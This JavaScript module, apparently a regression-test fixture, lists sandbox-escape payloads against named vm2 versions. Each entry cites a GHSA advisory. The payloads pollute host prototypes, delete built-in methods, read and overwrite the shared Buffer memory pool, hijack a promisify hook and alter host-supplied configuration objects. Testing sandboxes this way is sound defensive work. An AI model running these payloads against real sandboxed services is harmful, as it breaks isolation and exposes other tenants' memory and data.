// State that all code of one process shares: prototypes, pools, hooks, emitters.
'use strict';
const { promisify } = require('util');

module.exports = [
  {
    name: 'prototype-of-all-objects', advisory: 'GHSA-vwrp-x96c-mhwq', kind: 'VM', against: '3.10.5', reaches: 'changed: Object.prototype.isAdmin',
    code: ({ climb }) => `${climb} hostPrototype.isAdmin = true; 1`,
  },
  {
    name: 'method-taken-from-all-objects', advisory: 'GHSA-vwrp-x96c-mhwq', kind: 'VM', against: '3.10.5', reaches: 'changed: Array.prototype.includes',
    code: ({ climb }) => `${climb} delete up(HostObject.entries({})).includes; 1`,
  },
  {
    name: 'prototype-of-all-bytes', advisory: 'GHSA-3vgf-8m4q-q4qr', kind: 'VM', against: '3.10.5', reaches: 'changed: Uint8Array.prototype.mine',
    code: ({ climb }) => `${climb} Reflect.defineProperty(up(up(Buffer.of(1))), 'mine', { value: 1, configurable: true }); 1`,
  },
  {
    name: 'next-of-all-lists', advisory: 'GHSA-3vgf-8m4q-q4qr', kind: 'VM', against: '3.10.5', reaches: 'changed: iterator.mine',
    code: ({ climb }) => `${climb} const it = HostObject.entries({}).values(); Reflect.defineProperty(up(it), 'mine', { value: 1 }); 1`,
  },
  {
    name: 'pool-of-bytes-is-read', advisory: 'GHSA-fcqc-726x-5wfc', kind: 'VM', against: '3.11.2', reaches: 'secret of its memory',
    code: `const all = Buffer.from([0]).buffer; Buffer.from(all, 0, all.byteLength).toString('latin1')`,
  },
  {
    name: 'pool-of-bytes-is-written', advisory: 'GHSA-fcqc-726x-5wfc', kind: 'VM', against: '3.11.2', reaches: 'changed: bytes of its pool',
    code: `const all = Buffer.from('x').buffer, bytes = Buffer.from(all, 0, all.byteLength), at = bytes.indexOf('pooled:'); if (at >= 0) bytes.write('robbed:', at); 1`,
  },
  {
    name: 'hook-of-a-function', advisory: 'GHSA-m5q2-4fm3-vfqp', kind: 'VM', against: '3.11.2', reaches: 'changed: what its function becomes',
    options: (host) => ({ sandbox: { load: (host.load = function load(name, done) { done(null, name); }) } }),
    code: `load[Symbol.for('nodejs.util.promisify.custom')] = async () => 'mine'; 1`,
    use: async (found, host) => { if (await promisify(host.load)('own') !== 'own') host.touch('changed: what its function becomes'); },
  },
  {
    name: 'function-that-inherits', advisory: 'GHSA-c4cf-2hgv-2qv6', kind: 'VM', against: '3.11.2', reaches: 'changed: what its function has',
    options: (host) => ({ sandbox: { load: (host.load = function load() {}) } }),
    code: `Object.create(load).limit = 0; Reflect.set(load, 'role', 'admin', {}); 1`,
    wins: (host) => (host.load.limit === 0 || host.load.role !== undefined) && 'changed: what its function has',
  },
  {
    name: 'prototype-of-emitters', advisory: 'GHSA-vwrp-x96c-mhwq', kind: 'NodeVM', against: '3.10.5', reaches: 'changed: events.prototype.mine',
    options: { require: { builtin: ['stream'], external: false } },
    code: ({ climb }) => `${climb} Reflect.defineProperty(up(up(require('stream').Readable.prototype)), 'mine', { value: 1 });`,
  },
  {
    name: 'objects-that-are-given', advisory: 'by design: what is given is the host\'s own', kind: 'VM', against: '3.12.2', reaches: 'changed: what it configured',
    options: (host) => ({ sandbox: { config: host.config } }),
    code: `config.role = 'admin'; config.list.push(4); delete config.nested.limit; Object.setPrototypeOf(config.nested, null); 1`,
  },
];
